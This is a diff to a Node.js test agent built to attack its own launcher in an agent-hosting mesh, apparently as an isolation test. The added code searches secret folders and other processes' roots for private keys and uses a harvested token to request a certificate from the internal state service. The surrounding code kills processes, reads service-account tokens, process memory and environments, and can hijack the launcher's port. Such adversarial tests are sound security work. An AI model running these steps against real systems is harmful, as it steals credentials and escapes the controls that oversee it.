@@ -1,7 +1,7 @@
 // An agent that attacks its launcher in every way it can and returns what it obtained. Plain Node.js, so that it runs in any image. With
 // TAKE_OVER (JSON with key and cert) it also binds the launcher's port once it is free and answers as a launcher would.
 import { existsSync, readFileSync, readdirSync, readlinkSync, writeFileSync } from 'node:fs'
-import { createServer, get } from 'node:http'
+import { createServer, get, request as requestHttp } from 'node:http'
 import { createServer as createTlsServer, request as requestTls } from 'node:https'
 import { connect, createServer as createTcpServer } from 'node:net'
 
@@ -41,20 +41,54 @@ const ask = (method, path, headers = {}) =>
     request.end()
   })
 
+// Private keys in files that this user can read, also those of other processes.
+const searched = ['/var/run/secrets', '/run', '/etc/mesh', '/tmp', '/dev/shm']
+const filesBelow = (folder) => {
+  const entries = outcome(() => readdirSync(folder, { recursive: true, withFileTypes: true }))
+  return Array.isArray(entries) ? entries.filter((one) => one.isFile() || one.isSymbolicLink()) : []
+}
+const keyFiles = () => {
+  const roots = ['', ...processes().map((pid) => `/proc/${pid}/root`)]
+  const paths = roots.flatMap((root) =>
+    searched.flatMap((folder) => filesBelow(root + folder).map(({ parentPath, name }) => `${parentPath}/${name}`)),
+  )
+  return paths.filter((path) => /PRIVATE KEY|"kty":"OKP"[^}]*"d":/.test(textOf(path)))
+}
+
+// With what it has, it asks the state role to certify a key of its own.
+const certify = (token) =>
+  settle((end) => {
+    const headers = { authorization: `Bearer ${token.trim()}`, 'content-type': 'application/json' }
+    const about = { method: 'POST', headers, timeout: 5_000 }
+    const asked = requestHttp('http://mesh-state.mesh-system.svc:3002/launchers/certificates', about, (response) => {
+      response.resume()
+      end(`answered ${response.statusCode}`)
+    })
+    asked.once('timeout', () => asked.destroy())
+    asked.once('error', ({ code }) => end(`failed ${code}`))
+    asked.end(JSON.stringify({ x: 'A'.repeat(43) }))
+  })
+
 async function tryEverything() {
   for (const pid of processes())
     if (Number(pid) !== process.pid && pid !== '1') outcome(() => process.kill(Number(pid), 'SIGUSR1'))
   const token = textOf(process.env.MODEL_GATEWAY_TOKEN_FILE ?? '')
   return {
     key: read('/var/run/secrets/mesh/keys/agent.key'),
+    keyFiles: keyFiles(),
+    certificate: await certify(token),
     stateToken: read('/var/run/secrets/mesh/launcher/state'),
     config: read('/etc/mesh/agent/agent.json'),
     apiToken: read('/var/run/secrets/kubernetes.io/serviceaccount/token'),
     gatewayToken: read(process.env.MODEL_GATEWAY_TOKEN_FILE ?? ''),
     launchersInProc: launchers().length,
     launcherMemory: launchers().map((pid) => read(`/proc/${pid}/mem`)),
-    environments: processes().filter((pid) => /STATE_TOKEN_FILE|MESH_KEY_FILE/.test(textOf(`/proc/${pid}/environ`))),
-    roots: processes().filter((pid) => existsSync(`/proc/${pid}/root/var/run/secrets/mesh/keys/agent.key`)),
+    environments: processes().filter((pid) =>
+      /STATE_TOKEN_FILE|MESH_KEY_FILE|PRIVATE KEY/.test(textOf(`/proc/${pid}/environ`)),
+    ),
+    roots: processes().filter((pid) =>
+      ['keys/agent.key', 'launcher/state'].some((file) => existsSync(`/proc/${pid}/root/var/run/secrets/mesh/${file}`)),
+    ),
     namespaces: processes().filter((pid) => link(`/proc/${pid}/ns/pid`) !== link('/proc/self/ns/pid')),
     variables: Object.keys(process.env).filter((name) => /^(MESH_|STATE_URL)/.test(name)),
     uid: process.getuid(),
